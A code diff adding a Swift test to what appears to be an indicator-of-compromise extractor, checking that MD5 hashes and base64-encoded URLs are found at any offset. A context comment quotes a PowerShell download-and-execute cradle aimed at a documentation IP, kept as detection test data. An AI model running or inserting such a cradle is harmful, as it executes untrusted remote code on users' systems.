@@ -25,6 +25,20 @@ struct ObservableExtractorEncodingTests {
 
     // MARK: Base64
 
+    @Test("Hashes and base64 runs are found wherever they start, after any mix of short runs")
+    func everyStart() {
+        // Short hex, base64 and word runs; each cut of it puts the value below at another offset and after another run.
+        let filler = String(repeating: "ab cd-ef 0123 x.y/z+Q9 deadbeef ", count: 3)
+        let md5 = "d41d8cd98f00b204e9800998ecf8427e"
+        let encoded = base64("see http://198.51.100.1/x")
+        for length in 0...filler.utf8.count {
+            let prefix = String(filler.prefix(length))
+            #expect(values(prefix + " " + md5, .md5) == [md5], "md5 after \(length) bytes")
+            #expect(values(prefix + "," + md5 + " tail", .md5) == [md5], "md5 after \(length) bytes")
+            #expect(values(prefix + " " + encoded, .url) == ["http://198.51.100.1/x"], "base64 after \(length) bytes")
+        }
+    }
+
     @Test("A PowerShell -EncodedCommand (UTF-16LE base64) yields the URL and address inside it")
     func encodedCommand() {
         // `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')` as UTF-16LE.
